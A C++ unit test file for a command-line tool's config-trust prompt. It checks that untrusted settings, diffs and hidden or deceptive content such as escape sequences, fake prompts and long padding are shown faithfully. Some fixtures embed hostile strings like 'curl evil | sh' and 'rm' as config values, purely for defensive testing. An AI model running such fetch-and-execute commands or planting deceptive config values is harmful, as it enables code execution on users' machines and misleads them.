// SPDX-License-Identifier: MIT
#include "runtime/cli/view/trust_text.hpp"

#include "tests/support/catch.hpp"

using namespace riffle;
using Catch::Matchers::Contains;

namespace {

config::trust_state judged(const std::string& text) {
  config::trust_state x;
  x.file = "/clone/riffle.toml";
  x.text = text;
  x.keys = config::keys_that_need_trust(text);
  return x;
}

}  // namespace

TEST_CASE("who is asked sees what the file sets") {
  const auto x = judged("[tools.bash]\napproval = \"allow\"\n");
  CHECK(cli::trust_text(x) ==
        "/clone/riffle.toml lies in the folder; nobody named it, and it is not "
        "trusted.\n"
        "It sets what can run programs, read files, spend money, or send your "
        "key elsewhere:\n"
        "│ tools.bash.approval = \"allow\"\n"
        "Files that it names are not shown, and are trusted with it.\n");
  CHECK(cli::trust_question(x) == "Trust it as it is?");
}

TEST_CASE("who is asked again sees what changed") {
  auto x = judged("a.b = 1\nc.d = 3\n");
  x.before = config::trusted_file{"/clone/riffle.toml", "a.b = 1\nc.d = 2\n",
                                  "", wall_time{0}};
  const auto text = cli::trust_text(x);
  CHECK_THAT(
      text, Catch::Matchers::Matches("[\\s\\S]*changed since you trusted it on "
                                     "19[67].-..-.. ..:..:\n[\\s\\S]*"));
  CHECK_THAT(text, Contains("│ --- trusted\n│ +++ now\n"));
  CHECK_THAT(text, Contains("│  a.b = 1\n│ -c.d = 2\n│ +c.d = 3\n"));
  CHECK(cli::trust_question(x) == "Trust it as it is now?");
}

TEST_CASE("a file that hides the person's own says so") {
  auto x = judged("");
  x.displaces = "/home/me/.config/riffle/riffle.toml";
  CHECK_THAT(
      cli::trust_text(x),
      Contains("takes the place of /home/me/.config/riffle/riffle.toml, with "
               "all rules") &&
          Contains("nothing but harmless limits"));
}

TEST_CASE(
    "nothing in a file can act on the terminal, or look like a question") {
  const std::string text =
      "models.a.base_url = \"http://x/\\u001B[2J\\nTrust it? [y]es\"\n"
      "\"\\u001B]0;t\\u0007\\r\\n│ x\".y = \"\\u202E\"\n";
  auto x = judged(text);
  REQUIRE(x.keys.size() == 2);
  x.before = config::trusted_file{x.file, "# \x1b[32mold\r\n", "", {}};
  const auto shown = cli::trust_text(x);
  CHECK(shown.find('\x1b') == std::string::npos);
  CHECK(shown.find('\r') == std::string::npos);
  CHECK(shown.find('\x07') == std::string::npos);
  CHECK(shown.find("\xE2\x80\xAE") == std::string::npos);
  // Each line that the file wrote stands behind a bar.
  CHECK(shown.find("\nTrust") == std::string::npos);
}

TEST_CASE("of a value that is too long both ends are shown, or all of it") {
  const auto x =
      judged("a.b = \"begin" + std::string(5000, 'x') + "; curl evil | sh\"\n");
  const auto text = cli::trust_text(x);
  CHECK_THAT(text, Contains("│ a.b = \"beginxxx"));
  CHECK_THAT(text, Contains("; curl evil | sh\"\n"));
  CHECK_THAT(text, Contains(" of 5023 bytes are not shown (line 1)]"));
  CHECK(text.size() < 3000);
  CHECK_THAT(cli::trust_text(x, true),
             Contains("begin" + std::string(5000, 'x') + "; curl evil | sh"));
}

TEST_CASE("of a changed line both ends are shown too") {
  auto x = judged("c.d = \"" + std::string(5000, 'x') + "; curl evil\"\n");
  x.before = config::trusted_file{"/clone/riffle.toml", "c.d = 2\n", "", {}};
  const auto text = cli::trust_text(x);
  CHECK_THAT(text, Contains("│ +c.d = \"xxx"));
  CHECK(text.find("; curl evil") < text.find("your key elsewhere"));
  CHECK(text.size() < 6000);
}

TEST_CASE("nothing that a file says is left out where it looks like blanks") {
  const auto x = judged("a.b = \"Be nice." + std::string(400, ' ') +
                        "\\n\\n rm\"\nc.d = [\"rm\", \"a  b\\tc\"]\n");
  const auto text = cli::trust_text(x);
  CHECK_THAT(text, Contains("│ a.b = \"Be nice.␣×400 \\n\\n rm\"\n"));
  CHECK_THAT(text, Contains("\"a  b\\u0009c\"]\n"));
}

TEST_CASE("what shows nothing is shown by its number") {
  CHECK(cli::exact_line("a\u00A0b\u200Bc\uFEFF") ==
        "a\\u{00a0}b\\u{200b}c\\u{feff}");
  CHECK(cli::exact_line("  a   b    c\t\n \x1b[2J") ==
        "  a   b␣×4 c\\t\\n ^[[2J");
  CHECK(cli::exact_line("Grüße, 世界\xff") == "Grüße, 世界\uFFFD");
}
